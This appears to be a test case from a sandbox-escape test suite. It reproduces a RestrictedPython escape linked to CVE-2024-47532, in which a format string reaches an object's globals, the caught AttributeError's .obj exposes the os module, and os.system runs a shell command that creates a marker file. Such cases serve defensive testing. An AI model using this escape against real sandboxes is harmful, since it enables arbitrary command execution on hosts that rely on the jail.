"""An AttributeError has the object that lacks the attribute.

Known from: CVE-2024-47532 of RestrictedPython
Effect: made
Host: import os
Host: class Host:
Host:     def __init__(self): pass
Host: host, error = Host(), AttributeError
Given: host error
Jail: no builtins
"""
try:
    "{0.__init__.__globals__[os].nothing}".format(host)
except error as found:
    found.obj.system(": > made")
